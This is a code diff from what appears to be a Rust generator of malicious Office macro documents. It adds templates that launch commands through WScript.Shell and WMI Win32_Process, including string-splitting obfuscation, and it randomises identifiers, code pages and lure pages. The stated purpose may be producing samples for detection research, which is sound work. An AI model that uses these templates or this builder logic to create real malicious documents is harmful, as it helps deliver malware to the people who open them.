@@ -19,6 +19,15 @@ const STARTS: [&str; 6] = [
     "GetObject(\"winm\" & \"gmts:\" & \"Win32\" & \"_Process\").Create {cmd}, Null, Null, {x}",
 ];
 
+/// Calls that fewer macros use, for the rare styles; and not for the others, whose documents are checked in.
+const RARE_STARTS: [&str; 4] = [
+    "Set {x} = CreateObject(\"WScript.Shell\").Exec({cmd})",
+    "Set {x} = CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\")\n\
+     {y} = {x}.Get(\"Win32_Process\").Create({cmd}, Null, Null, {z})",
+    STARTS[0],
+    STARTS[3],
+];
+
 /// What an attack is to look like.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Plan {
@@ -59,7 +68,8 @@ pub fn planned(plan: Plan, urls: &[String], chance: &mut Chance) -> Result<Forge
     let command = script::command(shape, &script, chance);
     let [procedure, variable, x, y, z] =
         [(); 5].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
-    let start = *chance.pick(&STARTS);
+    let starts = if Style::RARE.contains(&style) { &RARE_STARTS[..] } else { &STARTS[..] };
+    let start = *chance.pick(starts);
     let call = start.replace("{cmd}", &variable).replace("{x}", &x).replace("{y}", &y).replace("{z}", &z);
 
     let (mut document_body, own_entry, entry_point) = entry(container, &procedure, chance);
@@ -83,7 +93,9 @@ pub fn planned(plan: Plan, urls: &[String], chance: &mut Chance) -> Result<Forge
     modules.push(module);
     modules.extend(further);
     let name = if container.is_word() { "Project" } else { "VBAProject" };
-    let code_page = if chance.one_in(3) { 1_252 } else { 932 };
+    // Japanese names need the Japanese code page.
+    let western = chance.one_in(3);
+    let code_page = if western && code.is_ascii() { 1_252 } else { 932 };
     let mut page = match ahead {
         Some(page) => page,
         None => lure(chance),
@@ -104,6 +116,7 @@ pub fn planned(plan: Plan, urls: &[String], chance: &mut Chance) -> Result<Forge
         starts_by: Some(start.to_owned()),
         container,
         code_page,
+        shows: page.first_text(),
         modules: project.modules,
         entry_point: Some(entry_point),
         command: Some(command),
